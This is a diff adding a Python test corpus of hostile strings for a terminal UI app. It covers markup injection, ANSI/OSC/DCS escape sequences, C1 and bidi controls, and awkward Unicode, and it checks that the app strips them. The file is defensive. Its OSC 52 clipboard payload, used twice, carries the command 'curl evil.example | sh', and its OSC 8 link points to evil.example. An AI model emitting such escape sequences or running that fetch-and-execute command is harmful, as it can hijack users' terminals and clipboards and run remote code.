@@ -1,0 +1,163 @@
+"""A corpus of hostile text, and checks for what may and may not reach a terminal.
+
+Every entry is text a user could type, an imported JSON file could hold, a hand-edited plan
+file could hold, or a ``--content`` guide could contain. Kindred must show all of it literally
+(markup-like text with its brackets, never as styles or actions) and safely (no control
+character, escape sequence or bidirectional override may reach the terminal).
+"""
+
+import base64
+import json
+import unicodedata
+from dataclasses import dataclass
+
+from rich.cells import cell_len
+
+from tui.safe_text import strip_controls
+
+
+@dataclass(frozen=True)
+class Hostile:
+    id: str
+    text: str
+    # "markup": markup-like text that must be shown exactly as written.
+    # "control": control characters or escape sequences (none may reach the terminal).
+    # "bidi": bidirectional controls (none may reach the terminal).
+    # "unicode": legitimate but awkward text (wide, right-to-left, combining, joiners).
+    # "layout": very long text.
+    kind: str
+
+    @property
+    def is_clean(self) -> bool:
+        """Nothing in it needs removing: it must be shown as written (tabs and line breaks
+        may become spaces)."""
+        return not forbidden_in(self.text.replace("\t", " ").replace("\n", " "))
+
+    @property
+    def one_line(self) -> str:
+        """The text as a one-line field keeps it (as the plan's clean_value does)."""
+        return strip_controls(self.text).strip()
+
+    @property
+    def multiline(self) -> str:
+        return strip_controls(self.text, multiline=True)
+
+
+def _zalgo(word: str, marks_per_letter: int = 12) -> str:
+    marks = [chr(code) for code in range(0x0300, 0x036F)]
+    out = []
+    for index, letter in enumerate(word):
+        out.append(letter)
+        out.extend(marks[(index * 7 + n) % len(marks)] for n in range(marks_per_letter))
+    return "".join(out)
+
+
+_OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
+
+CORPUS: list[Hostile] = [
+    # Rich and Textual markup, and things that look like it.
+    Hostile("bold", "[b]bold[/b]", "markup"),
+    Hostile("close-all", "[/]", "markup"),
+    Hostile("half-close", "[/", "markup"),
+    Hostile("open-bracket", "[", "markup"),
+    Hostile("close-bracket", "]", "markup"),
+    Hostile("click-quit", "[@click=app.quit]x[/]", "markup"),
+    Hostile("click-quit-word", "[@click=app.quit]Anna[/]", "markup"),
+    Hostile("click-bell", "[@click=app.bell]ring[/]", "markup"),
+    Hostile("link", "[link=https://example.com]x[/link]", "markup"),
+    Hostile("colours", "[red on blue]", "markup"),
+    Hostile("colours-closed", "[red on blue]Ben[/red on blue]", "markup"),
+    Hostile("variable", "$accent", "markup"),
+    Hostile("variable-markup", "[$accent]Cleo[/]", "markup"),
+    Hostile("variable-style", "[bold $error on $primary 50%]x[/]", "markup"),
+    Hostile("escaped", "\\[escaped]", "markup"),
+    Hostile("double-escape", "\\\\[b]x\\\\[/b]", "markup"),
+    Hostile("emoji-code", ":smile: :warning:", "markup"),
+    Hostile("format", "{name} {0} %s %(x)d {{", "markup"),
+    Hostile("markdown", "*em* **strong** `code` <b>html</b> # not a heading", "markup"),
+    Hostile("markdown-link", "[click me](https://evil.example)", "markup"),
+    # Control characters and escape sequences.
+    Hostile("esc", "A\x1bB", "control"),
+    Hostile("csi-clear", "\x1b[2J\x1b[HCleared", "control"),
+    Hostile("sgr", "\x1b[31mred\x1b[0m", "control"),
+    Hostile("osc-title", "\x1b]0;owned\x07Anna", "control"),
+    Hostile("osc-title-st", "\x1b]2;owned\x1b\\Ben", "control"),
+    Hostile("osc52", _OSC52 + "clip", "control"),
+    Hostile("osc8", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "control"),
+    Hostile("dcs", "\x1bP1$qm\x1b\\dcs", "control"),
+    Hostile("c1-csi", "\x9b2Jc1", "control"),
+    Hostile("c1-osc", "\x9d0;owned\x9ctitle", "control"),
+    Hostile("bell", "ring\x07\x07", "control"),
+    Hostile("backspace", "abc\x08\x08\x08xyz", "control"),
+    Hostile("carriage-return", "visible\rhidden", "control"),
+    Hostile("nul", "nul\x00byte", "control"),
+    Hostile("del", "del\x7fete", "control"),
+    Hostile("vt-ff-nel", "a\x0bb\x0cc\x85d", "control"),
+    # Bidirectional controls and line separators.
+    Hostile("rlo", "\u202eexe.txt", "bidi"),
+    Hostile("isolates", "\u2066a\u2067b\u2068c\u2069d", "bidi"),
+    Hostile("embeddings", "\u202aa\u202bb\u202cc\u202dd", "bidi"),
+    Hostile("marks", "\u200ea\u200fb\u061cc", "bidi"),
+    Hostile("separators", "a\u2028b\u2029c", "bidi"),
+    # Legitimate text that is awkward to lay out.
+    Hostile("emoji", "👨‍👩‍👧‍👦 family 🎉", "unicode"),
+    Hostile("cjk", "中文名字テスト한국어", "unicode"),
+    Hostile("arabic", "مرحبا بالعالم", "unicode"),
+    Hostile("hebrew", "שלום עולם", "unicode"),
+    Hostile("zalgo", _zalgo("Zalgo"), "unicode"),
+    Hostile("joiners", "a\u200db\u200cc\u2060d", "unicode"),
+    Hostile("fullwidth", "ＦＵＬＬ", "unicode"),
+    Hostile("tabs", "col1\tcol2\t\tcol3", "unicode"),
+    # JSON can hold a lone surrogate, which no terminal (and no UTF-8) can.
+    Hostile("lone-surrogate", json.loads('"lone \\ud800 surrogate"'), "control"),
+    # Very long text.
+    Hostile("long-word", "W" * 5_000, "layout"),
+    Hostile("many-lines", "\n".join(f"line {n}" for n in range(2_000)), "layout"),
+]
+
+BY_ID = {entry.id: entry for entry in CORPUS}
+assert len(BY_ID) == len(CORPUS)
+
+# Everything that must never reach a terminal: C0 and C1 controls (tabs and newlines are
+# layout, never sent as such), DEL, bidirectional controls, line and paragraph separators,
+# and lone surrogates.
+_BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+_SEPARATORS = {"\u2028", "\u2029"}
+
+
+def is_forbidden(char: str) -> bool:
+    return (
+        unicodedata.category(char) in ("Cc", "Cs")
+        or char in _BIDI
+        or char in _SEPARATORS
+    )
+
+
+def forbidden_in(text: str) -> list[str]:
+    """The forbidden characters in text, each once, in order."""
+    seen: list[str] = []
+    for char in text:
+        if is_forbidden(char) and char not in seen:
+            seen.append(char)
+    return seen
+
+
+def short(text: str, cells: int = 18) -> bool:
+    """Short enough to be seen whole on one line in any list or field at 80x24."""
+    return "\n" not in text and cell_len(text) <= cells
+
+
+# Payloads that would do something if they reached a terminal, for byte-level checks.
+TERMINAL_PAYLOADS: dict[str, bytes] = {
+    "OSC 0 title": b"\x1b]0;owned",
+    "OSC 2 title": b"\x1b]2;owned",
+    "OSC 52 clipboard": b"\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh"),
+    "OSC 8 hyperlink": b"\x1b]8;;https://evil.example",
+    "DCS": b"\x1bP1$qm",
+    "CSI clear screen": b"\x1b[2J\x1b[HCleared",
+    "SGR red from the plan": b"\x1b[31mred",
+    "C1 CSI": "\x9b2Jc1".encode(),
+    "C1 OSC": "\x9d0;owned".encode(),
+    "right-to-left override": "\u202e".encode(),
+    "isolates": "\u2066".encode(),
+}
